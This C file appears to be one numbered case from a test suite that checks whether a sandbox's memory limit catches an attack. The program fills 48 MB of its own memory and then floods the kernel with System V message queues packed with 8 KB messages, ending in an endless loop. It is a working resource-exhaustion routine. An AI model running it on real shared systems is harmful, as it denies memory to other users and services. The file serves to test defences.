// row 25: the kernel's memory for System V messages
// finds: limit.memory
// not there: the machine has them all, and an ordinary user's own cannot be told apart
#include "attack.h"
#include <sys/msg.h>
int main(void) {
  char *own = malloc(48 << 20);  // together with the messages it is too much; fewer of them are needed
  if (own) memset(own, 1, 48 << 20);
  static struct { long type; char text[8192]; } message = {1, ""};
  for (int n = 0; n < 20000; n++) {
    int queue = msgget(IPC_PRIVATE, 0600);
    if (queue == -1) break;
    while (msgsnd(queue, &message, sizeof message.text, IPC_NOWAIT) == 0);
  }
  for (;;);
}
